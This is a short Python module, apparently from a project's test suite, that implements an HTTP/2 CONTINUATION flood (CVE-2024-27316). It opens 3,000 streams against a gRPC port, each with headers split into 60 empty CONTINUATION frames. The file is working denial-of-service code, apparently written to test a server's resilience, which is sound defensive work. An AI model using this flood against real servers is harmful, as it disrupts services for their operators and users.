"""Heads in many pieces without content (CVE-2024-27316)."""

from __future__ import annotations

from tests.support.http2 import CONTINUATION, END_HEADERS, HEADERS, Peer, frame

from ._flood import flood
from ._row import Row

ABOUT = "opens 3 000 streams, each with a head in 60 empty pieces (CVE-2024-27316)"
PIECES = 60


def run(address: str, *, count: int = 3_000, seconds: float = 20.0) -> Row:
    """Attack the gRPC port of a runner."""
    return flood("continuation-flood", address, head_in_pieces, count=count, seconds=seconds)


def head_in_pieces(peer: Peer) -> bytes:
    """A stream's head that is followed by empty pieces."""
    head, number = peer.begin()
    empty = frame(CONTINUATION, stream=number) * (PIECES - 1)
    last = frame(CONTINUATION, flags=END_HEADERS, stream=number)
    return frame(HEADERS, head[9:], stream=number) + empty + last
